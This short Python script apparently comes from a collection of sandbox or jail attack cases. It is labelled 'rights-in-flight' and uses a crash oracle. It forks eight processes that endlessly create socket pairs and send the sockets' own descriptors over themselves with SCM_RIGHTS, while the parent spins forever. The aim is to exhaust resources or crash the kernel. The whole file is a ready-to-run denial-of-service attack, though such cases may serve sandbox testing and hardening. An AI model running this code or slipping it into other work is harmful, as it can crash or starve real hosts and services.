# attack: jail/rights-in-flight
# oracle: crash
# imports: socket, os, array
# tools:
# source: own
# note: descriptors in flight: sockets sent over themselves, by many processes
import array, os, socket
for _ in range(8):
    if os.fork() == 0:
        try:
            while True:
                a, b = socket.socketpair()
                a.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [a.fileno(), b.fileno()]))])
                a.close()
                b.close()
        finally:
            os._exit(0)
while True:
    pass
